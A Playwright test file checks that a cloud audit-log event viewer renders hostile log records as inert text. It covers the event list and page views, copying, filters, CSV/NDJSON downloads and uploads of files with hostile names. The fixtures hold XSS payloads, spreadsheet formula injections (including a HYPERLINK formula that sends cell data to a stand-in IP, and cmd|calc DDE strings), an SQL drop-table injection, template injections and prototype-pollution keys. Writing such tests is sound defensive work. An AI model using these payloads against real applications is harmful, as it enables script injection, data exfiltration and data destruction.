import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { ask, loaded } from './api.ts'
import type { ConsoleServer } from './consoleServer.ts'
import { EventHistoryPage } from './EventHistoryPage.ts'
import { expect, test } from './fixtures.ts'
import { record } from './logFiles.ts'

/** What somebody who may name a thing may write into the log: each must stay text. Any that ran would say so in the title. */
const HTML = `<img src=x onerror="document.title='ran'"><script>document.title='ran'</script>`
const ATTRIBUTE = `"><svg onload="document.title='ran'"></svg>'`
const LINK = `javascript:document.title='ran'`
const BIDI = 'user\u202etxt.exe\u2066\u200b'
const FORMULAS = ['=HYPERLINK("http://192.0.2.1/?"&A1)', '+cmd|calc', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)']
const WORD = 'W'.repeat(64 * 1024)
const TEMPLATE = '${document.title}{{constructor.constructor("document.title=1")()}}%s%n\u0007'
const SQL = `'; DROP TABLE events; --`

/** `\uD800` alone and `__proto__` have to be written by hand: no JSON.stringify makes them from an object literal. */
const BY_HAND = `"loneSurrogate":"a\\ud800b","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":1}}`

const hostile = {
  ...record(1),
  userIdentity: {
    type: 'IAMUser',
    principalId: HTML,
    arn: LINK,
    accountId: ATTRIBUTE,
    accessKeyId: FORMULAS[1],
    userName: HTML,
    sessionContext: { sessionIssuer: { userName: BIDI, arn: HTML } },
  },
  eventName: HTML,
  eventSource: ATTRIBUTE,
  awsRegion: BIDI,
  sourceIPAddress: SQL,
  userAgent: FORMULAS[0],
  errorCode: TEMPLATE,
  errorMessage: WORD,
  requestParameters: { [HTML]: HTML, policyDocument: JSON.stringify({ Statement: HTML }), url: LINK },
  responseElements: { word: WORD, formulas: FORMULAS },
  resources: [{ ARN: LINK, accountId: HTML, type: ATTRIBUTE }],
  requestID: FORMULAS[2],
  eventID: '../../<b>%2e%2e/"><i>',
  eventType: FORMULAS[3],
  eventCategory: HTML,
  recipientAccountId: FORMULAS[3],
}
const RECORD = `${JSON.stringify(hostile).slice(0, -1)},${BY_HAND}}`

let server: ConsoleServer
let eventHistory: EventHistoryPage

test.beforeEach(async ({ folder, ownServerWith, page }) => {
  await writeFile(
    join(folder, `<img src=x onerror=alert(1)>.json`),
    `{"Records":[${RECORD},${JSON.stringify(record(2))}]}`,
  )
  server = await ownServerWith('--in-memory', folder)
  expect(await loaded(server)).toMatchObject({ eventCount: 2, problems: 0 })
  eventHistory = new EventHistoryPage(page, server.origin)
})

test.afterEach(async ({ page }) => {
  expect(await page.title()).not.toBe('ran')
})

test('a hostile record is shown as it is written, in the list, the panel, as text and on its page', async ({
  page,
}) => {
  const dialogs: string[] = []
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  await eventHistory.open()
  await expect(eventHistory.rows).toHaveCount(2)
  const row = eventHistory.row('onerror')
  await expect(row).toContainText(HTML)
  await eventHistory.openEvent(row)
  await expect(eventHistory.details.getByRole('heading', { level: 2 })).toHaveText(HTML)
  await eventHistory.details.getByRole('button', { name: 'Text', exact: true }).click()
  const text = eventHistory.details.getByRole('region', { name: 'Event record as text' })
  await expect(text).toContainText('"loneSurrogate": "a\\ud800b"')
  await expect(text).toContainText('"polluted": true')
  await eventHistory.openAsPage.click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(HTML)
  await expect(eventHistory.record).toBeVisible()
  await page.reload()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(HTML)
  expect(dialogs).toEqual([])
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
})

test('nothing of a hostile record becomes an element or a link that can be followed', async ({ page }) => {
  await eventHistory.open()
  await eventHistory.openEvent(eventHistory.row('onerror'))
  await expect(page.locator('img[src="x"], svg[onload], script:not([src]), [onerror]')).toHaveCount(0)
  await expect(page.locator('a[href^="javascript"]')).toHaveCount(0)
})

test('the record copied is byte for byte what was in the log file', async ({ page }) => {
  await eventHistory.open()
  await eventHistory.openEvent(eventHistory.row('onerror'))
  await eventHistory.details.getByRole('button', { name: 'Copy the event record as it was written' }).click()
  await expect(eventHistory.details.getByRole('button', { name: 'Copied', exact: true })).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(RECORD)
})

test('a hostile value becomes a filter that finds its event, and goes round through the address', async ({
  page,
}) => {
  for (const [field, value] of [
    ['eventName', HTML],
    ['sourceIPAddress', SQL],
    ['awsRegion', BIDI],
    ['userAgent', FORMULAS[0]!],
    ['errorCode', TEMPLATE],
    ['errorMessage', 'W'.repeat(1000)],
  ] as const) {
    const key = field === 'errorMessage' ? `${field}^` : field
    await eventHistory.open(`/?${key}=${encodeURIComponent(value)}`)
    await expect(eventHistory.heading).toHaveText('Event history (1)')
    await page.reload()
    await expect(eventHistory.heading).toHaveText('Event history (1)')
  }
})

test('downloads give the record back, and a spreadsheet no formula', async () => {
  const response = await fetch(`${server.origin}/api/events/download?format=ndjson&order=oldest`)
  expect((await response.text()).split('\n')[0]).toBe(RECORD)
  const json = await ask<{ Records: unknown[] }>(server, '/api/events/download')
  expect(json.Records).toHaveLength(2)

  const csv = await (await fetch(`${server.origin}/api/events/download?format=csv`)).text()
  const rows = parse(csv)
  expect(rows).toHaveLength(3)
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  expect(rows.flat()).toContain(`'${FORMULAS[0]}`)
  expect(rows.flat()).toContain(HTML)
})

test('a log file with a hostile name is named as it is, and the report stays text', async ({ page }) => {
  const name = `"><img src=x onerror="document.title='ran'">.json`
  const form = new FormData()
  form.set('file', new Blob(['{"Records":[{']), name)
  const response = await fetch(`${server.origin}/api/log-files`, { method: 'POST', body: form })
  expect(response.status).toBe(200)
  await page.goto(`${server.origin}/load-report`)
  await expect(page.getByRole('row').filter({ hasText: 'onerror' })).toHaveCount(1)
  await expect(page.locator('img[src="x"]')).toHaveCount(0)
})
